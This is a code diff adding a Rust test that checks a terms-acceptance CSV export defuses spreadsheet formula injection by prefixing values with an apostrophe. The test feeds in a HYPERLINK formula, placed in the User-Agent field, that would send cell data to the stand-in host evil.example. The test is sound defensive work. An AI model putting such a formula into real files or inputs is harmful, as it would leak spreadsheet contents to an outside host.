@@ -125,6 +125,24 @@ on_both_databases! {
         assert!(last.starts_with(&format!("{identifier},c@example.org,2,major,{},", sha256(VERSION_2))), "{last}");
     }
 
+    async fn the_export_never_hands_a_spreadsheet_a_formula(backend) {
+        let app = TestApp::spawn(backend).await;
+        let (mut browser, identifier) = app.active_resident("villeneuve", "f@example.org").await;
+        let town = app.town("villeneuve").await;
+        app.app.terms.publish(&town, VERSION_2, TermsKind::Major).await.unwrap();
+        let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
+        browser.user_agent = Some(formula.to_owned());
+        assert_eq!(browser.accept_terms().await.status, 303);
+
+        let mut csv = Vec::new();
+        app.app.terms.export_csv(&town, &mut csv).await.unwrap();
+        let csv = String::from_utf8(csv).unwrap();
+        let last = csv.lines().last().unwrap();
+        assert!(last.starts_with(&identifier), "{last}");
+        // Quoted by CSV, and text for a spreadsheet: a leading apostrophe.
+        assert!(last.ends_with(r#","'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#), "{last}");
+    }
+
     async fn old_or_foreign_versions_cannot_be_accepted(backend) {
         let app = TestApp::spawn(backend).await;
         let (mut browser, _) = app.active_resident("villeneuve", "d@example.org").await;
